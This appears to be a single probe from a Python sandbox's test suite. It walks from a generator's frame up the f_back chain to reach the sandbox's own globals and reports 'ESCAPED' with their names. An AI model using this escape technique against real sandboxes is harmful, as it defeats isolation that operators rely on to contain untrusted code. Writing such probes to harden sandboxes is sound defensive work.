# tries: walking from a running generator back to the sandbox's own frames
# layer: language
def run(ctx, params):
    def climb():
        frame = generator.gi_frame
        while frame.f_back is not None:
            frame = frame.f_back
        yield frame.f_globals

    generator = climb()
    return f"ESCAPED: {sorted(next(generator))[:5]}"
